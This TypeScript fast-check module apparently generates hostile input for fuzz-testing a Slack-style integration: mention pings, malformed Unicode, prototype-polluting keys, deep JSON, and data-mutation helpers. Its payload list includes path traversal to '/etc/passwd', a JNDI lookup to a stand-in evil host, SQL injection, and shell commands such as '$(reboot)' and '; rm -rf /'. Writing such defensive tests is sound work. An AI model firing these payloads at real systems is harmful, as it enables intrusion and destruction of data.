/** What comes from outside when nobody means well, or somebody's keyboard does not. */
import fc from "fast-check";

/** Marks, pings, links, invisible and broken characters, names that JavaScript has already. */
export const pieces: readonly string[] = [
  "<!channel>",
  "<!here|here>",
  "<!everyone>",
  "<!subteam^S0OPS>",
  "<@U0OWNER>",
  "<#C0ALERTS|alerts>",
  "<https://evil.example|click>",
  "<mailto:a@evil.example|mail>",
  "<!date^0^{date}^https://evil.example|x>",
  "https://evil.example/?a=1&b=2",
  "javascript:alert(1)",
  "@channel",
  ":rotating_light:",
  "&lt;!channel&gt;",
  "&amp;",
  "&#60;",
  "&",
  "<",
  ">",
  "|",
  "`",
  "``",
  "```",
  "*",
  "**",
  "_",
  "__init__",
  "~",
  "~gone~",
  "*bold*",
  "\n",
  "\r\n",
  "\n> ",
  "\n>>> quoted",
  "\n• ",
  "\t",
  " ",
  "\u00a0",
  "\u3000",
  "\u2028",
  "\u0085",
  "\u0000",
  "\u0007",
  "\u001b[31m",
  "\u007f",
  "\u200b",
  "\u200d",
  "\u2060",
  "\ufeff",
  "\u200f",
  "\u202e",
  "\u202a",
  "\u2066",
  "\u2069",
  "\ud83d",
  "\udc4d",
  "\ue000",
  "\ue0000\ue001",
  "\ue001",
  "\ufffe",
  "\uffff",
  "\ufdfa",
  "e\u0301\u0301\u0301\u0301",
  "👩‍👩‍👧‍👦",
  "🇰🇷",
  "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
  "배포",
  "을(를)",
  "은",
  "ｎｏｗ",
  "“",
  "”",
  "‘",
  "'",
  '"',
  "\\",
  "—force",
  "--force",
  "/",
  "../../etc/passwd",
  "%00",
  "%s%n",
  "$" + "{jndi:ldap://evil.example}",
  "{{7*7}}",
  "'; DROP TABLE x; --",
  "=cmd()",
  "$(reboot)",
  "; rm -rf /",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "null",
  "true",
  "0",
  "-1",
  "1e999",
  "9007199254740993",
  "a",
  "web",
  "dev",
  "x=",
  "=x",
  "env=dev",
];

const joined = fc.array(fc.constantFrom(...pieces), { maxLength: 8 }).map((some) => some.join(""));

/** Ten thousand characters of one thing. */
export const endless = fc.constantFrom(...pieces).map((one) => one.repeat(Math.ceil(10_000 / one.length)));

/** Any text from outside. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 40, arbitrary: joined },
  { weight: 12, arbitrary: fc.constantFrom(...pieces) },
  { weight: 10, arbitrary: fc.string({ unit: "binary", maxLength: 30 }) },
  { weight: 10, arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }) },
  {
    weight: 6,
    arbitrary: fc.constantFrom("2026-11-23T00:00:00Z", "+275760-09-13", "-000001-01-01", "1960-01-01"),
  },
  { weight: 2, arbitrary: endless },
);

/** In a text of JSON these become what JSON.stringify cannot write. */
const beyond: Readonly<Record<string, string>> = {
  "\u0001deep": "[".repeat(5_000) + "]".repeat(5_000),
  "\u0001objects": `${'{"a":'.repeat(3_000)}1${"}".repeat(3_000)}`,
  "\u0001huge": "1e999",
  "\u0001digits": "9".repeat(400),
};

/** A value of any type, where one of another was expected. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 3 },
    hostileText,
    fc.constantFrom<unknown>(null, true, false, 0, -0, -1, 1.5, 2 ** 53, Number.MAX_VALUE, 5e-324, "", [], {}),
    fc.constantFrom(...Object.keys(beyond)),
    fc.array(tie("value"), { maxLength: 4 }),
    fc
      .array(fc.tuple(fc.oneof(hostileText, fc.constantFrom("__proto__", "constructor", "length")), tie("value")), {
        maxLength: 4,
      })
      .map(objectOf),
  ),
})).value;

/** An object with these keys of its own, also those that an assignment would not make. */
function objectOf(entries: readonly (readonly [string, unknown])[]): object {
  const made = {};
  for (const [key, value] of entries) set(made, key, value);
  return made;
}

function set(object: object, key: string, value: unknown): void {
  Object.defineProperty(object, key, { value, enumerable: true, configurable: true, writable: true });
}

/** One change of a piece of data: at the `at`th place (counted over all of them, at any depth). */
export interface Mutation {
  readonly at: number;
  readonly kind: "drop" | "replace" | "wrap" | "add" | "rename" | "append" | "swap";
  readonly value: unknown;
  readonly name: string;
}

export const mutation: fc.Arbitrary<Mutation> = fc.record({
  at: fc.nat(200),
  kind: fc.constantFrom("drop", "replace", "replace", "replace", "wrap", "add", "rename", "append", "append", "swap"),
  value: hostileValue,
  name: hostileText,
});

interface Place {
  readonly holder: Record<string, unknown>;
  readonly key: string;
}

/** The data with every change made; what it was made of stays as it is. */
export function mutated(data: unknown, mutations: readonly Mutation[]): unknown {
  const root: Record<string, unknown> = { root: structuredClone(data) };
  for (const change of mutations) {
    const places = placesIn(root);
    const location = places[change.at % places.length];
    if (location) apply(change, location, places);
  }
  return root.root;
}

function placesIn(holder: Record<string, unknown>): Place[] {
  const places: Place[] = [];
  const waiting: Record<string, unknown>[] = [holder];
  for (let next = waiting.pop(); next && places.length < 500; next = waiting.pop()) {
    for (const key of Object.keys(next)) {
      places.push({ holder: next, key });
      const inner = next[key];
      if (typeof inner === "object" && inner !== null) waiting.push(inner as Record<string, unknown>);
    }
  }
  return places;
}

function apply(change: Mutation, { holder, key }: Place, places: readonly Place[]): void {
  const { kind, name, at } = change;
  const known = holder[key];
  // The next change may be made within it.
  const value = structuredClone(change.value);
  switch (kind) {
    case "drop":
      Reflect.deleteProperty(holder, key);
      return;
    case "replace":
      set(holder, key, value);
      return;
    case "wrap":
      set(holder, key, at % 2 ? [known] : { [key]: known });
      return;
    case "add":
      if (typeof known === "object" && known !== null) set(known, name, value);
      else set(holder, name, value);
      return;
    case "rename":
      Reflect.deleteProperty(holder, key);
      set(holder, name, known);
      return;
    case "append":
      // Names that are nearly right get further than others.
      set(holder, key, typeof known === "string" ? (at % 2 ? known + name : name + known) : value);
      return;
    case "swap": {
      const other = places[(at * 7 + 3) % places.length];
      if (other) set(holder, key, structuredClone(other.holder[other.key]));
    }
  }
}

/** As JSON, with what JSON.stringify cannot write where its stand-ins are. */
export function hostileJson(value: unknown): string {
  const json = JSON.stringify(value) ?? "null";
  return json.replace(/"\\u0001(deep|objects|huge|digits)"/g, (_, name: string) => beyond[`\u0001${name}`] ?? "null");
}

/** What happens to a text on its way: it is cut, doubled, something is put into it, or nothing happens. */
export const damage: fc.Arbitrary<(text: string) => string> = fc.oneof(
  { weight: 12, arbitrary: fc.constant((text: string) => text) },
  {
    weight: 1,
    arbitrary: fc.nat(2_000).map((at) => (text: string) => text.slice(0, at % (text.length + 1))),
  },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.nat(2_000), hostileText).map(([at, put]) => (text: string) => {
      const place = at % (text.length + 1);
      return text.slice(0, place) + put + text.slice(place);
    }),
  },
  { weight: 1, arbitrary: fc.constant((text: string) => text + text) },
);
